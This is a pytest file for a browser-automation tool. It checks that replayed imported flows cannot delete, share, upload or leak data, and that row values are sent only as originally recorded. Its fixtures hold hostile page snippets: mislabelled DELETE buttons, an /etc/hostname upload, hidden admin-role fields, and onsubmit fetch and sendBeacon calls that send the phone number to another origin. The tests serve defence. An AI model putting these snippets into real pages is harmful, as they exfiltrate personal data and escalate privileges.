"""What a stranger's flow file says of its steps is nobody's word, and no page makes of a row what its flow has not sent.

Flows of strangers are played with `--yes` and nobody there, at a start page that the person named; rows by a flow of our own,
whose first run sent one telephone number. The same page as then goes.
"""

from collections.abc import Sequence
from urllib.parse import unquote_plus

import pytest

from studio.domain.actions.action import (
    Action,
    Choose,
    Click,
    DoubleClick,
    Fill,
    Hover,
    Navigate,
    OpenTab,
    Press,
    Scroll,
    ScrollWay,
    SelectOption,
    SetChecked,
    Upload,
)
from studio.domain.actions.rule import SelectionRule, Taking
from studio.domain.errors import StudioError
from studio.domain.flows.flow import Flow, FlowStep
from studio.domain.flows.sending import SentShape
from studio.domain.page.target import Candidate, Family, Target
from studio.domain.values.variable import Variable
from studio.engine.guard.mandates.same_form import codes_of
from studio.engine.ports import OutgoingRequest, RequestKind
from studio.engine.runs.approval import grant_for
from studio.engine.runs.bus import EventBus
from studio.engine.runs.reports import RunOptions
from studio.engine.workbench import Workbench
from tests.fakes import ScriptedModel, Sites
from tests.hostile.fresh import CALL, form
from tests.hostile.stage import Stage
from tests.hostile.web import Origin
from tests.memory_library import MemoryLibrary

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

_TEL = "<label>電話番号<input name=tel></label>"
_FORM = form(
    _TEL
    + "<label>権限<select name=role><option value=1>一般<option value=9>管理者</select></label>"
)
_ICON = CALL + "<button id=x aria-label=★ onclick=\"call('/members/5','','DELETE')\">★</button>"
_ROWS = (
    CALL
    + "<h1>社員</h1><table><tr><th>名前<th>操作"
    + "".join(
        f"<tr><td>{name}<td><button onclick=\"call('/save',{{id:'{name}'}})\">詳細</button>"
        for name in ("田中", "佐藤")
    )
    + "</table>"
)


def _at(role: str, name: str, css: str = "") -> Target:
    """Return an element as a file tells of it; with `css` that is called otherwise than it is."""
    way = (
        Candidate(family=Family.CSS, value=css, score=90)
        if css
        else Candidate(family=Family.ROLE, value=name, role=role, score=20)
    )
    return Target(role=role, name=name, candidates=(way,))


_TEL_FIELD = _at("textbox", "電話番号")
_SAVE = Click(target=_at("button", "更新"))
_DEED = Click(target=_at("button", "注文を確定"))
_FILE = "<form method=post enctype=multipart/form-data action=/save><label>添付<input type=file name=f></label><button>更新</button></form>"

LIES: dict[str, tuple[str, Sequence[Action]]] = {
    "v01 a deletion that is called a search": (_ICON, [Click(target=_at("button", "検索", "#x"))]),
    "v02 a link that is called details": ("<a id=x href=/sakujyo.php?id=5>★</a>", [Click(target=_at("link", "詳細", "#x"))]),
    "v03 a value that goes to another site": (_FORM, [Navigate(url="{other port}/x?q={{電話}}")]),
    "v04 a value that is typed at another site": (
        _FORM, [Navigate(url="{other port}/f"), Fill(target=_TEL_FIELD, value="{{電話}}"), _SAVE]),
    "v05 a file that nobody named": (_FILE, [Upload(target=_at("button", "添付"), paths=("/etc/hostname",)), _SAVE]),
    "v06 a role that rides along": (
        _FORM, [Fill(target=_TEL_FIELD, value="{{電話}}"), SelectOption(target=_at("combobox", "権限"), option="管理者"), _SAVE]),
    "v07 a deed that it grants itself": (form("", "注文を確定", "/order"), [_DEED]),
    "v08 every row": (_ROWS, [Choose(rule=SelectionRule(taking=Taking.ALL), column="詳細")]),
    "v09 a key that is no search": (_FORM, [Fill(target=_TEL_FIELD, value="1"), Press(target=_TEL_FIELD, keys="Enter")]),
    "v10 an address that acts": ("", [Navigate(url="{own}/sakujyo.php?id=5")]),
    "v11 a box that shares with all": (
        CALL + "<label><input type=checkbox onchange=\"call('/share',{to:'all'})\">全社に共有</label>", [
            SetChecked(target=_at("checkbox", "全社に共有"))]),
    "v12 a press that is two": (_ICON, [DoubleClick(target=_at("button", "詳細", "#x"))]),
    "v13 a menu that acts as it opens": (
        CALL + "<div id=x role=button tabindex=0 onmouseenter=\"call('/members/5','','DELETE')\">★</div>", [Hover(target=_at("button", "詳細", "#x"))]),
    "v14 an address in a new tab": ("", [OpenTab(url="{own}/sakujyo.php?id=5")]),
    "v15 a key that takes away": (
        CALL + "<div id=x role=button tabindex=0 onkeydown=\"if(event.key=='Delete')call('/members/5','','DELETE')\">★</div>", [
            Press(target=_at("button", "詳細", "#x"), keys="Delete")]),
    "v16 a form that goes into a frame": (
        _FORM.replace("<form", "<form target=sink") + "<iframe name=sink hidden></iframe>", [Fill(target=_TEL_FIELD, value="{{電話}}"), _SAVE]),
    "v17 a mutation that is read": (
        CALL + "<button id=x aria-label=★ onclick=\"window.inHand=fetch('/graphql?query=mutation{setRole(id:5){id}}')\">★</button>", [
            Click(target=_at("button", "検索", "#x"))]),
    "v18 a page that acts as it is scrolled": (
        CALL + "<p style=height:4000px>…</p><script>onscroll=()=>call('/members/5','','DELETE')</script>", [Scroll(way=ScrollWay.DOWN)]),
    "v19 a picture that is taken away": ("<a id=x href=/profile/icon/delete>★</a>", [Click(target=_at("link", "詳細", "#x"))]),
}  # fmt: skip


async def _play(stage: Stage, html: str, actions: Sequence[Action], row: str = "") -> None:
    """Play a stranger's flow, or ours with a row's value."""
    web = stage.web
    web.start_over()
    web.put("/page", f"<title>顧客</title><h1>顧客</h1>{html}")
    web.put("/f", _FORM, Origin.PORT)
    web.changing = frozenset({"/sakujyo.php", "/taikai", "/graphql", "/profile/icon/delete"})
    own = web.urls[Origin.OWN]
    stood = OutgoingRequest(
        method="POST",
        url=f"{own}/save",
        kind=RequestKind.NAVIGATION,
        page_url=f"{own}/page",
        fields=(("role", "1"),),
    )
    shapes = tuple(
        SentShape(
            site=own,
            method=method,
            path=path,
            fields=(("tel", "**"), ("role", "*")),
            codes=codes_of(stood),
        )
        for method in ("POST", "DELETE")
        for path in ("/save", "/order", "/members/*", "/share")
    )
    steps = [FlowStep(item="開く", action=Navigate(url="{{url}}"), sent=())]
    for action in actions:
        put = action
        if isinstance(action, Navigate):
            put = Navigate(url=web.filled(action.url))
        sends = not (row and isinstance(put, Fill))
        steps.append(
            FlowStep(
                item="一覧を見る",
                action=put,
                sent=shapes if sends else (),
                sends=sends,
                grant=grant_for(put, own),
            )
        )
    flow = Flow(
        name="一覧を見る",
        origins=(own, web.urls[Origin.PORT]),
        steps=tuple(steps),
        is_imported=not row,
        variables=(Variable(name="url", value=""), Variable(name="電話", value="03-1234-5678")),
    )
    workbench = Workbench(
        browser=stage.browser, model=ScriptedModel(), store=MemoryLibrary(), exporters={}, sites=Sites(), bus=EventBus()
    )  # fmt: skip
    try:
        await workbench.replay(
            flow,
            {"url": f"{own}/page", "電話": row or "03-1234-5678"},
            RunOptions(is_attended=False, approves_all=not row),
        )
    except StudioError:
        assert not row  # it is refused before it begins


@pytest.mark.parametrize("name", LIES)
async def test_a_strangers_flow_does_nothing_by_its_own_word(stage: Stage, name: str) -> None:
    html, actions = LIES[name]
    await _play(stage, html, actions)
    assert stage.web.changes() == []
    assert stage.web.foreign() == []


_PUTS = (Fill(target=_TEL_FIELD, value="{{電話}}"), _SAVE)
_ROW = "03-8765-4321"
PAGES: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "w01 a role that came into the form": (form(_TEL + "<input type=hidden name=role value=admin>"), _ROW, ("admin",)),
    "w02 another end": (form(_TEL, action="/members"), _ROW, ("/members",)),
    "w03 another site": (form(_TEL, action="{other port}/save"), _ROW, ("/save",)),
    "w04 the row before": (_FORM.replace("<form", "<form onsubmit=\"this.tel.value='03-1234-5678'\""), _ROW, ("1234-5678",)),
    "w05 the label over another field": (form("<label>電話番号<input name=fax></label><input type=hidden name=tel>"), _ROW, ("fax=03",)),
    "w06 sent a second time by a script": (
        CALL + _FORM.replace("<form", "<form onsubmit=\"call('/save',{tel:this.tel.value})\""), _ROW, ()),
    "w07 a box that says 公開": (form(_TEL + "<label><input type=checkbox name=open value=1 checked>全社に公開</label>"), _ROW, ("open=1",)),
    "w08 a cell that calls for a password": (_FORM, "{{秘密:パスワード}}", ("Mitsu",)),
    "w09 a cell that calls for another value": (_FORM, "{{url}}", ("tel=http",)),
    "w10 a larger amount beside it": (form(_TEL + "<input type=hidden name=amount value=9000000>"), _ROW, ("9000000",)),
    "w11 a second value under the same name": (form(_TEL + "<input type=hidden name=tel value=03-0000-0000>"), _ROW, ("0000-0000",)),
    "w12 a list that stands otherwise": (_FORM.replace("value=9", "value=9 selected"), _ROW, ("role=9",)),
    "w13 more in the address": (form(_TEL, action="/save?force=1&all=1"), _ROW, ("force=1",)),
    "w14 a value that is cut": (_FORM.replace("name=tel", "name=tel maxlength=7"), _ROW, ("tel=03-8765&",)),
    "w15 a question whether it goes for all": (
        _FORM.replace("<form", "<form onsubmit=\"if(confirm('全員を管理者にしますか？'))this.role.value=9\""), _ROW, ("role=9",)),
    "w16 another list that is changed as it is sent": (
        _FORM.replace("<form", "<form onsubmit=\"this.role.value=9\""), _ROW, ("role=9",)),
    "w17 another end in a frame": (
        _FORM.replace("<form", "<form onsubmit=\"this.target='sink';this.action='/members'\"") + "<iframe name=sink hidden></iframe>", _ROW, ("/members",)),
    "w18 a query instead of a form": (_FORM.replace("<form", "<form onsubmit=\"this.method='get';this.action='/taikai'\""), _ROW, ("/taikai",)),
    "w19 more as the form is gathered": (
        _FORM.replace("<form", "<form onformdata=\"event.formData.append('admin','on')\""), _ROW, ("admin",)),
    "w20 a beacon beside it": (
        _FORM.replace("<form", "<form onsubmit=\"navigator.sendBeacon('/members',new URLSearchParams({role:9}))\""), _ROW, ("/members",)),
    "w21 a mutation beside it": (
        _FORM.replace("<form", "<form onsubmit=\"fetch('/graphql?query=mutation{setRole(id:5){id}}',{keepalive:true})\""), _ROW, ("mutation",)),
    "w22 a half of it to another site": (
        _FORM.replace("<form", "<form onsubmit=\"fetch('{other port}/x?'+this.tel.value.slice(0,7),{mode:'no-cors',keepalive:true})\""), _ROW, ("GET /x",)),
    "w23 the page it comes from to another site": (
        _FORM.replace("<form", "<form onsubmit=\"history.replaceState(0,'','/page?t='+this.tel.value);fetch('{other port}/x',{mode:'no-cors',"
                      "keepalive:true,referrerPolicy:'unsafe-url'})\""), _ROW, ("GET /x",)),
    "w24 a button of the same name before it": (
        _FORM.replace("<form", "<button form=f formaction=/members>更新</button><form id=f"), _ROW, ("/members",)),
    "w25 sent once more by itself": (
        _FORM.replace("<form", "<iframe name=sink hidden></iframe><form target=sink onsubmit=\"setTimeout(()=>this.submit(),50)\""), _ROW, ()),
}  # fmt: skip


@pytest.mark.parametrize("name", PAGES)
async def test_a_row_is_sent_as_its_flow_sent_it(stage: Stage, name: str) -> None:
    html, row, evil = PAGES[name]
    await _play(stage, stage.web.filled(html), _PUTS, row)
    sent = [unquote_plus(hit.text) for hit in (*stage.web.changes(), *stage.web.foreign())]
    assert len(sent) <= 1
    assert not [one for one in sent if any(words in one for words in evil)]


async def test_a_flow_of_ours_sends_what_its_first_run_sent(stage: Stage) -> None:
    await _play(stage, _FORM, _PUTS, _ROW)
    assert [unquote_plus(hit.body.decode()) for hit in stage.web.changes()] == [
        f"tel={_ROW}&role=1"
    ]
